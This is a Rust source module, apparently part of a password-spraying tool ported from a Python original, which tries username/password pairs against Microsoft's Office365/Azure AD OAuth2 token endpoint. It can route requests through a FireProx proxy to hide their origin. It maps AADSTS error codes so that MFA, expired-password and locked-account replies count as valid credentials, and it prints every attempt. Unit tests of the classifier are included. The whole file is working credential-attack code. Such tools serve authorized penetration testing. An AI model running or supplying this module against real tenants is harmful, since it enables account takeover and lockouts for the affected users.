//! OAuth2 ROPC flow against Office365/Azure AD, translated from
//! `Office365.py`. The AADSTS error-code table is data, not code.

use super::{AttemptOutcome, TargetAdapter};
use crate::attempt_log::{AttemptRecord, IntOrTimeout, O365Fields, RecordShape};
use async_trait::async_trait;
use reqwest::Client;
use serde::Deserialize;
use std::time::Duration;

/// (AADSTS code, Result, Message). Credit to dafthack's MSOLSpray for first
/// cataloguing these codes.
const AADSTS_TABLE: &[(&str, &str, &str)] = &[
    ("AADSTS50126", "Fail", ""),
    ("AADSTS50076", "Success", "Microsoft MFA in use"),
    ("AADSTS50079", "Success", "Microsoft MFA must be onboarded"),
    ("AADSTS50158", "Success", "Non-Microsoft MFA in use"),
    ("AADSTS50055", "Success", "User's password is expired"),
    ("AADSTS50034", "Fail", "Invalid username"),
    ("AADSTS50128", "Fail", "Tenant account does not exist"),
    ("AADSTS50059", "Fail", "Tenant account does not exist"),
    ("AADSTS50053", "Fail", "Account appears locked"),
    ("AADSTS50057", "Fail", "Account appears disabled"),
];

fn classify(error_description: &str) -> (&'static str, &'static str) {
    let code = error_description.split(':').next().unwrap_or("");
    AADSTS_TABLE
        .iter()
        .find(|(c, _, _)| *c == code)
        .map(|(_, result, message)| (*result, *message))
        .unwrap_or(("Fail", "Unknown error code returned"))
}

#[derive(Deserialize)]
struct ErrorBody {
    error_description: String,
}

pub struct Office365Adapter {
    client: Client,
    url: String,
}

impl Office365Adapter {
    pub fn new(timeout: Duration, fireprox: Option<&str>) -> eyre::Result<Self> {
        let url = match fireprox {
            Some(proxy) => format!("https://{proxy}/fireprox/common/oauth2/token"),
            None => "https://login.microsoft.com/common/oauth2/token".to_string(),
        };
        let client = Client::builder().timeout(timeout).build()?;
        Ok(Self { client, url })
    }
}

#[async_trait]
impl TargetAdapter for Office365Adapter {
    fn module_name(&self) -> &'static str {
        "Office365"
    }

    async fn login(&self, username: &str, password: &str) -> eyre::Result<AttemptOutcome> {
        let form = [
            ("resource", "https://graph.windows.net"),
            ("client_id", "1b730954-1685-4b74-9bfd-dac224a7b894"),
            ("client_info", "1"),
            ("grant_type", "password"),
            ("username", username),
            ("password", password),
            ("scope", "openid"),
        ];

        let send_result = self.client.post(&self.url).form(&form).send().await;

        match send_result {
            Ok(resp) => {
                let code = resp.status().as_u16() as i64;
                let status = resp.status();
                let body = resp.bytes().await.unwrap_or_default();
                let length = body.len() as i64;

                let (result, message) = if status.is_success() {
                    ("Success", "Valid login; no MFA")
                } else {
                    match serde_json::from_slice::<ErrorBody>(&body) {
                        Ok(err_body) => classify(&err_body.error_description),
                        Err(_) => ("Fail", "Unknown error code returned"),
                    }
                };

                let record = AttemptRecord::now(
                    self.module_name(),
                    username,
                    password,
                    RecordShape::O365(O365Fields {
                        result: result.to_string(),
                        message: message.to_string(),
                        response_code: IntOrTimeout::Value(code),
                        response_length: IntOrTimeout::Value(length),
                    }),
                );
                Ok(AttemptOutcome::Responded(record))
            }
            Err(err) if err.is_timeout() => {
                let record = AttemptRecord::now(
                    self.module_name(),
                    username,
                    password,
                    RecordShape::O365(O365Fields {
                        result: "Fail".to_string(),
                        message: String::new(),
                        response_code: IntOrTimeout::timeout(),
                        response_length: IntOrTimeout::timeout(),
                    }),
                );
                Ok(AttemptOutcome::TimedOut(record))
            }
            Err(err) => Err(err.into()),
        }
    }

    fn print_headers(&self) {
        println!(
            "{:<13} {:<30} {:<35} {:<17} {:>13} {:>15}",
            "Result", "Message", "Username", "Password", "Response Code", "Response Length"
        );
        println!("{}", "-".repeat(128));
    }

    fn print_response(&self, outcome: &AttemptOutcome) {
        let record = outcome.record();
        if let RecordShape::O365(fields) = &record.shape {
            let code = match &fields.response_code {
                IntOrTimeout::Value(v) => v.to_string(),
                IntOrTimeout::Timeout(_) => "TIMEOUT".to_string(),
            };
            let length = match &fields.response_length {
                IntOrTimeout::Value(v) => v.to_string(),
                IntOrTimeout::Timeout(_) => "TIMEOUT".to_string(),
            };
            println!(
                "{:<13} {:<30} {:<35} {:<17} {:>13} {:>15}",
                fields.result, fields.message, record.username, record.password, code, length
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn mfa_error_code_classifies_as_success() {
        let (result, message) = classify("AADSTS50076: something");
        assert_eq!(result, "Success");
        assert_eq!(message, "Microsoft MFA in use");
    }

    #[test]
    fn invalid_password_code_classifies_as_fail() {
        let (result, _) = classify("AADSTS50126: invalid username or password");
        assert_eq!(result, "Fail");
    }

    #[test]
    fn unknown_code_defaults_to_fail() {
        let (result, message) = classify("AADSTS99999: mystery");
        assert_eq!(result, "Fail");
        assert_eq!(message, "Unknown error code returned");
    }
}
